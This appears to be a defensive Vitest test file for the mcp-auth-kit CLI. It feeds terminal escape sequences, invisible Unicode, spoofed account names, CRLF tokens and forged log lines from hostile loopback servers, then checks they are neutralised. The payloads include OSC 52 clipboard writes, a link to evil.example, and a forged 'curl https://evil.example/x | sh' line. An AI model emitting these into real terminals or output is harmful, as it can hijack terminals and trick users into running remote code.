import { execFile } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cliPath } from '../helpers/cli.js';
import { scriptedAsMetadata } from './helpers/support.js';

/**
 * Terminal escape injection through the `mcp-auth-kit` CLI (MCP security best practices: treat
 * server-provided text as untrusted; ECMA-48 C0/C1 control functions). A hostile MCP server and a
 * hostile AS on loopback put ESC (CSI, OSC 0 title, OSC 8 link, OSC 52 clipboard), BEL, CR,
 * backspace, DEL and 8-bit C1 controls (CSI U+009B, OSC U+009D, ST U+009C) into every string the
 * CLI prints: tool names, descriptions and results, the server name, the PRM `resource`, the AS
 * `issuer`, `error` and `error_description`. Nothing of it may reach the terminal as a control
 * character; the visible text (and, in JSON output, the exact value) must survive.
 *
 * Issue 46 (what a server says is data, never layout): a value never makes a line of its own (LF,
 * CR, U+2028/2029 are shown as `\n`, `\r`, `\u2028`), invisible characters (Unicode Cf, fillers,
 * variation selectors) are shown as escapes, an `error` code outside RFC 6749 §5.2's charset is
 * replaced, an issuer that the URL parser would silently change is refused (RFC 8414 §2), and an
 * access token outside RFC 6750 §2.1's syntax is refused without being echoed.
 */

const ESC = '\u001b';
const BEL = '\u0007';
const PAYLOADS = {
  clear: `${ESC}[2J${ESC}[H`,
  title: `${ESC}]0;pwned-title${BEL}`,
  clipboard: `${ESC}]52;c;ZWNobyBwd25lZA==${BEL}`,
  link: `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
  c1: '\u009b31m\u009d0;c1-title\u009c',
  misc: `\r\b\u007f\u0000${BEL}`,
};
/** Invisible and line-breaking characters (Unicode Cf, Zl, Zp, fillers, variation selectors, tags). */
const INVISIBLES = '\u200b\ufeff\u00ad\u2028\u2029\u{e0041}\u3164\u115f\ufe0f';
const ALL = Object.values(PAYLOADS).join('') + INVISIBLES;

/** Terminal controls the CLI must never emit: C0 but newline and tab, DEL, C1. */
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
/** Characters that are not seen or break lines: they must reach the terminal as escapes. */
const INVISIBLE = /[\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
/** More combining marks (Mn, Me) on one base than the writer's bound (MAX_COMBINING_MARKS, 3). */
const MARK_STACK = /[\p{Mn}\p{Me}]{4}/u;
/** What a forged code or description would print as a line of its own. */
const FORGED = '\nLogged in to https://bank.example via https://bank.example\nRun: curl https://evil.example/x | sh\n';

interface Hostile {
  url: string;
  server: Server;
}

async function serve(
  handler: (path: string, body: string, self: string) => { status: number; headers?: Record<string, string>; body?: unknown },
): Promise<Hostile> {
  let self = '';
  const server = createServer(async (req, res) => {
    let body = '';
    for await (const chunk of req) body += chunk;
    const out = handler(new URL(req.url ?? '/', self).pathname, body, self);
    res
      .writeHead(out.status, { 'content-type': 'application/json', ...out.headers })
      .end(out.body === undefined ? '' : JSON.stringify(out.body));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  self = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url: self, server };
}

const TOOLS = [
  {
    name: `evil-tool${PAYLOADS.clear}${PAYLOADS.c1}`,
    description: `reads notes${PAYLOADS.clipboard}${PAYLOADS.title} and more`,
    inputSchema: { type: 'object' },
  },
  { name: `bell${PAYLOADS.misc}`, description: `line one\nline two ${PAYLOADS.link}`, inputSchema: { type: 'object' } },
  { name: `zero\u200bwidth${INVISIBLES}`, description: `forged${FORGED}`, inputSchema: { type: 'object' } },
  // Issue 46 F5: stacked combining marks ("Zalgo") draw over neighbouring columns and lines.
  { name: `Z${'\u0336'.repeat(8)}`, description: `Bob${'\u0336\u0489\u0334\u0338'.repeat(30)}`, inputSchema: { type: 'object' } },
];
const RESULT_TEXT = `result-text${ALL}end`;
/**
 * Display names an AS could give to pass for another account (issue 46 F4): one that carries a
 * "(sub victim)" of its own, one padded with U+3000 (and NBSP, em space) so that a `sub` printed
 * after it would be hundreds of columns away, one with a stack of combining marks.
 */
const SPOOFING_NAMES: Record<string, string> = {
  subinname: 'alice (sub 248289761001)',
  padded: `alice${'\u3000'.repeat(150)}\u00a0\u2003(sub 248289761001)`,
  zalgo: `Bob${'\u0336\u0489\u0334\u0338'.repeat(30)}`,
};

/** A stateless MCP endpoint (JSON responses) that needs no authorization. */
function jsonRpc(body: string) {
  const msg = JSON.parse(body) as { id?: number; method: string; params?: { protocolVersion?: string } };
  if (msg.id === undefined) return { status: 202 };
  const result =
    msg.method === 'initialize'
      ? {
          protocolVersion: msg.params?.protocolVersion,
          capabilities: { tools: {} },
          serverInfo: { name: `hostile${ALL}`, version: '1.0.0' },
        }
      : msg.method === 'tools/list'
        ? { tools: TOOLS }
        : msg.method === 'tools/call'
          ? { content: [{ type: 'text', text: RESULT_TEXT }] }
          : {};
  return { status: 200, body: { jsonrpc: '2.0', id: msg.id, result } };
}

describe('attack: terminal escape sequences from servers through the CLI', () => {
  let mcp: Hostile;
  let as: Hostile;
  /** An AS that issues an access token with CR LF in it (client credentials). */
  let crlfAs: Hostile;
  /** An AS that says its token lives 1e300 seconds. */
  let foreverAs: Hostile;
  /** ASes whose access token (a JWT) names a chosen `sub` and display `name` (issue 46 F4). */
  const namingAs: Record<string, Hostile> = {};
  let home: string;
  /** Paths the AS was asked for (a refused issuer must be refused before any request). */
  const asked: string[] = [];

  beforeAll(async () => {
    as = await serve((path, _body, self) => {
      asked.push(path);
      if (path === '/.well-known/oauth-authorization-server/bad-issuer') {
        return { status: 200, body: { issuer: `${self}/bad-issuer${ALL}`, code_challenge_methods_supported: ['S256'] } };
      }
      // The URL parser drops TAB and LF: the metadata of `/tab-issuer` answers for `/\ttab-issuer`.
      if (path === '/.well-known/oauth-authorization-server/tab-issuer' || path === '/.well-known/oauth-authorization-server/lf-issuer') {
        const issuer = path.endsWith('tab-issuer') ? `${self}/\ttab-issuer` : `${self}/lf-\nissuer`;
        return {
          status: 200,
          body: scriptedAsMetadata(self, { issuer }),
        };
      }
      if (path === '/.well-known/oauth-authorization-server/forged') {
        return {
          status: 200,
          body: { issuer: `${self}/forged`, token_endpoint: `${self}/forged/token`, code_challenge_methods_supported: ['S256'] },
        };
      }
      if (path.startsWith('/.well-known/')) {
        return {
          status: 200,
          body: scriptedAsMetadata(self, { grant_types_supported: ['authorization_code', 'client_credentials'] }),
        };
      }
      if (path === '/register')
        return { status: 400, body: { error: 'invalid_client_metadata', error_description: `registration-refused${ALL}` } };
      if (path === '/token') return { status: 400, body: { error: 'invalid_client', error_description: `token-refused${ALL}` } };
      if (path === '/forged/token')
        return { status: 400, body: { error: `invalid_client${FORGED}${ESC}[2J`, error_description: `desc${FORGED}` } };
      return { status: 404, body: {} };
    });
    foreverAs = await serve((path, _body, self) => {
      if (path.startsWith('/.well-known/')) {
        return { status: 200, body: { issuer: self, token_endpoint: `${self}/token`, code_challenge_methods_supported: ['S256'] } };
      }
      if (path === '/token') return { status: 200, body: { access_token: 'forever-token', token_type: 'Bearer', expires_in: 1e300 } };
      return { status: 404, body: {} };
    });
    crlfAs = await serve((path, _body, self) => {
      if (path.startsWith('/.well-known/')) {
        return {
          status: 200,
          body: {
            issuer: self,
            token_endpoint: `${self}/token`,
            code_challenge_methods_supported: ['S256'],
            grant_types_supported: ['client_credentials'],
          },
        };
      }
      if (path === '/token')
        return { status: 200, body: { access_token: 'tok-s3cret\r\nX-Injected: yes', token_type: 'Bearer', expires_in: 300 } };
      return { status: 404, body: {} };
    });
    for (const [key, name] of Object.entries(SPOOFING_NAMES)) {
      namingAs[key] = await serve((path, _body, self) => {
        if (path.startsWith('/.well-known/')) {
          return { status: 200, body: { issuer: self, token_endpoint: `${self}/token`, code_challenge_methods_supported: ['S256'] } };
        }
        if (path === '/token') {
          const part = (v: object) => Buffer.from(JSON.stringify(v)).toString('base64url');
          const jwt = `${part({ alg: 'none' })}.${part({ iss: self, sub: 'mallory-7', name })}.sig`;
          return { status: 200, body: { access_token: jwt, token_type: 'Bearer', expires_in: 300 } };
        }
        return { status: 404, body: {} };
      });
    }
    mcp = await serve((path, body, self) => {
      if (path === '/open/mcp') return body ? jsonRpc(body) : { status: 405 };
      const prm = /^\/\.well-known\/oauth-protected-resource(\/.*)$/.exec(path)?.[1];
      if (prm === '/mismatch/mcp') return { status: 200, body: { resource: `${self}/other${ALL}`, authorization_servers: [as.url] } };
      // the URL parser drops trailing C0 controls, so this `resource` still matches the server URL
      if (prm === '/trailing/mcp')
        return { status: 200, body: { resource: `${self}/trailing/mcp${BEL}${ESC}\b\r\u0000${ESC}`, authorization_servers: [as.url] } };
      if (prm === '/as/mcp') return { status: 200, body: { resource: `${self}/as/mcp`, authorization_servers: [as.url] } };
      if (prm === '/badiss/mcp')
        return { status: 200, body: { resource: `${self}/badiss/mcp`, authorization_servers: [`${as.url}/bad-issuer`] } };
      if (prm === '/tabiss/mcp')
        return { status: 200, body: { resource: `${self}/tabiss/mcp`, authorization_servers: [`${as.url}/\ttab-issuer`] } };
      if (prm === '/lfiss/mcp')
        return { status: 200, body: { resource: `${self}/lfiss/mcp`, authorization_servers: [`${as.url}/lf-\nissuer`] } };
      if (prm === '/forged/mcp')
        return { status: 200, body: { resource: `${self}/forged/mcp`, authorization_servers: [`${as.url}/forged`] } };
      if (prm === '/crlf/mcp') return { status: 200, body: { resource: `${self}/crlf/mcp`, authorization_servers: [crlfAs.url] } };
      const naming = /^\/named-(\w+)\/mcp$/.exec(prm ?? '')?.[1];
      if (naming && namingAs[naming])
        return { status: 200, body: { resource: `${self}/named-${naming}/mcp`, authorization_servers: [namingAs[naming].url] } };
      if (prm === '/forever/mcp') return { status: 200, body: { resource: `${self}/forever/mcp`, authorization_servers: [foreverAs.url] } };
      return {
        status: 401,
        headers: { 'www-authenticate': `Bearer resource_metadata="${self}/.well-known/oauth-protected-resource${path}"` },
        body: { error: 'unauthorized' },
      };
    });
    home = await mkdtemp(join(tmpdir(), 'mak-terminal-'));
  });
  afterAll(async () => {
    for (const h of [mcp, as, crlfAs, foreverAs, ...Object.values(namingAs)]) {
      h?.server.closeAllConnections();
      h?.server.close();
    }
    if (home) await rm(home, { recursive: true, force: true });
  });

  const cli = (args: string[]) =>
    new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
      execFile(
        process.execPath,
        [cliPath, '--no-browser', '--timeout', '5', ...args],
        {
          env: { ...process.env, MCP_AUTH_KIT_HOME: home, MCP_AUTH_KIT_CLIENT_SECRET: 'some-secret', CI: 'true' },
          encoding: 'utf8',
          timeout: 30_000,
        },
        (err, stdout, stderr) => resolve({ code: err ? Number((err as { code?: unknown }).code ?? 1) : 0, stdout, stderr }),
      );
    });

  const clean = (text: string, what: string) => {
    expect(CONTROL.exec(text)?.[0], `${what} carries a control character`).toBeUndefined();
    expect(INVISIBLE.exec(text)?.[0], `${what} carries an invisible or line-breaking character`).toBeUndefined();
    expect(MARK_STACK.exec(text)?.[0], `${what} carries a stack of combining marks`).toBeUndefined();
  };
  /** No line printed starts with what a forged value tried to print. */
  const noForgedLine = (text: string) => {
    for (const line of text.split('\n')) expect(line).not.toMatch(/^(Logged in to|Run: curl)/);
  };

  it('tools: names and descriptions are printed as visible text: controls, invisibles and newlines as escapes, one line per tool', async () => {
    const r = await cli(['tools', `${mcp.url}/open/mcp`]);
    expect(r.code, r.stderr).toBe(0);
    clean(r.stdout, 'stdout');
    clean(r.stderr, 'stderr');
    noForgedLine(r.stdout);
    expect(r.stdout).toContain(
      'evil-tool\\u001b[2J\\u001b[H\\u009b31m\\u009d0;c1-title\\u009c — reads notes\\u001b]52;c;ZWNobyBwd25lZA==\\u0007\\u001b]0;pwned-title\\u0007 and more',
    );
    expect(r.stdout).toContain('line one\\nline two');
    expect(r.stdout).toContain(
      'zero\\u200bwidth\\u200b\\ufeff\\u00ad\\u2028\\u2029\\u{e0041}\\u3164\\u115f\\ufe0f — forged\\nLogged in to',
    );
    expect(r.stdout).toContain(`Z${'\u0336'.repeat(3)}${'\\u0336'.repeat(5)} — Bob\u0336\u0489\u0334\\u0338\\u0336`);
    expect(r.stdout.trimEnd().split('\n')).toHaveLength(TOOLS.length);
  });

  it('tools --json: no raw controls, and the JSON still parses back to the exact server values', async () => {
    const r = await cli(['tools', '--json', `${mcp.url}/open/mcp`]);
    expect(r.code, r.stderr).toBe(0);
    clean(r.stdout, 'stdout');
    const tools = JSON.parse(r.stdout) as { name: string; description: string }[];
    expect(tools.map((t) => [t.name, t.description])).toEqual(TOOLS.map((t) => [t.name, t.description]));
  });

  it('call: the tool result is printed without controls and parses back to the exact text', async () => {
    const r = await cli(['call', `${mcp.url}/open/mcp`, 'evil-tool']);
    expect(r.code, r.stderr).toBe(0);
    clean(r.stdout, 'stdout');
    clean(r.stderr, 'stderr');
    expect((JSON.parse(r.stdout) as { content: { text: string }[] }).content[0]!.text).toBe(RESULT_TEXT);
  });

  it('login: a PRM `resource` with controls (mismatching, and matching after the URL parser drops trailing controls) is shown clean', async () => {
    const mismatch = await cli(['login', `${mcp.url}/mismatch/mcp`]);
    expect(mismatch.code).toBe(1);
    expect(mismatch.stderr).toContain(`(${mcp.url}/other\\u001b[2J\\u001b[H`);
    expect(mismatch.stderr).toContain('MCP_AUTH_PRM_RESOURCE_MISMATCH');
    clean(mismatch.stderr, 'stderr');
    const trailing = await cli(['login', `${mcp.url}/trailing/mcp`]);
    expect(trailing.code).toBe(1);
    expect(trailing.stderr).toContain(`Discovered ${mcp.url}/trailing/mcp\\u0007\\u001b\\u0008\\r\\u0000\\u001b (authorization server`);
    clean(trailing.stderr, 'stderr');
  });

  it('login: the AS `error_description` of a refused registration and a mismatching AS `issuer` are shown clean', async () => {
    const refused = await cli(['login', `${mcp.url}/as/mcp`]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('registration-refused');
    clean(refused.stderr, 'stderr');
    const badIssuer = await cli(['login', `${mcp.url}/badiss/mcp`]);
    expect(badIssuer.code).toBe(1);
    expect(badIssuer.stderr).toContain('MCP_AUTH_AS_ISSUER_MISMATCH');
    clean(badIssuer.stderr, 'stderr');
  });

  it('login: an issuer with TAB or LF (dropped by the URL parser, so the metadata "matches") is refused before any request (RFC 8414 §2)', async () => {
    for (const [path, shown] of [
      ['/tabiss/mcp', '/\\ttab-issuer'],
      ['/lfiss/mcp', '/lf-\\nissuer'],
    ] as const) {
      asked.length = 0;
      const r = await cli(['login', `${mcp.url}${path}`]);
      expect(r.code, r.stderr).toBe(1);
      expect(r.stderr).toContain('MCP_AUTH_AS_METADATA_INVALID');
      expect(r.stderr).toContain(`${as.url}${shown}`);
      expect(r.stderr).not.toContain('Discovered');
      expect(asked).toEqual([]);
      clean(r.stderr, 'stderr');
    }
  });

  it('login --client-credentials: an AS `error` code and description with newlines and escapes cannot forge lines (RFC 6749 §5.2)', async () => {
    const r = await cli(['--client-credentials', '--client-id', 'svc', '--issuer', `${as.url}/forged`, 'login', `${mcp.url}/forged/mcp`]);
    expect(r.code).toBe(1);
    clean(r.stdout, 'stdout');
    clean(r.stderr, 'stderr');
    noForgedLine(r.stdout);
    noForgedLine(r.stderr);
    expect(r.stderr).toContain('failed: (malformed error code) (desc\\nLogged in to https://bank.example');
    expect(r.stderr).not.toContain('invalid_client');
  });

  it('call --client-credentials: an access token with CR LF is refused and never echoed (RFC 6750 §2.1)', async () => {
    const r = await cli(['--client-credentials', '--client-id', 'svc', '--issuer', crlfAs.url, 'call', `${mcp.url}/crlf/mcp`, 'anything']);
    expect(r.code).toBe(1);
    clean(r.stdout, 'stdout');
    clean(r.stderr, 'stderr');
    expect(`${r.stdout}${r.stderr}`).not.toContain('s3cret');
    expect(`${r.stdout}${r.stderr}`).not.toContain('X-Injected');
    expect(r.stderr).toContain('not a valid token (RFC 6750 §2.1); it is not shown');
  });

  it('login --client-credentials, status: an `expires_in` of 1e300 is capped (RFC 6749 §5.1 in range), so status still shows a date', async () => {
    const login = await cli(['--client-credentials', '--client-id', 'svc', '--issuer', foreverAs.url, 'login', `${mcp.url}/forever/mcp`]);
    expect(login.code, login.stderr).toBe(0);
    const status = await cli(['status']);
    expect(status.code, status.stderr).toBe(0);
    const year = Number(/access token valid until (\d{4})-/.exec(status.stdout)?.[1]);
    // capped at one year (protocol's MAX_TOKEN_LIFETIME_SECONDS)
    expect(year).toBeGreaterThanOrEqual(new Date().getUTCFullYear());
    expect(year).toBeLessThanOrEqual(new Date().getUTCFullYear() + 1);
  });

  it.each([
    ['subinname', '"alice (sub 248289761001)"'],
    ['padded', '"alice (sub 248289761001)"'],
    ['zalgo', '"Bob\u0336\u0489\u0334"'],
  ])(
    'login: the signed-in line leads with the AS host and `sub`, the server-chosen name (%s) comes after, quoted and collapsed',
    async (key, quoted) => {
      const host = new URL(namingAs[key]!.url).host;
      const r = await cli([
        '--client-credentials',
        '--client-id',
        'svc',
        '--issuer',
        namingAs[key]!.url,
        'login',
        `${mcp.url}/named-${key}/mcp`,
      ]);
      expect(r.code, r.stderr).toBe(0);
      clean(r.stdout, 'stdout');
      clean(r.stderr, 'stderr');
      const line = r.stdout.split('\n').find((l) => l.startsWith('Signed in'));
      expect(line).toBe(
        `Signed in at ${host} as sub mallory-7 (${quoted}): if that is not your account, run \`mcp-auth-kit logout ${mcp.url}/named-${key}/mcp\` now.`,
      );
      // The progress line of the library's `authorized` event says the same.
      expect(r.stderr).toContain(`Authorized at ${host} as sub mallory-7 (${quoted})`);
      expect(line).not.toMatch(/\u3000|\u00a0|\u2003/);
    },
  );

  it('login --client-credentials: the token endpoint `error_description` is shown clean', async () => {
    const r = await cli(['--client-credentials', '--client-id', 'svc', '--issuer', as.url, 'login', `${mcp.url}/as/mcp`]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('token-refused');
    clean(r.stdout, 'stdout');
    clean(r.stderr, 'stderr');
  });
});
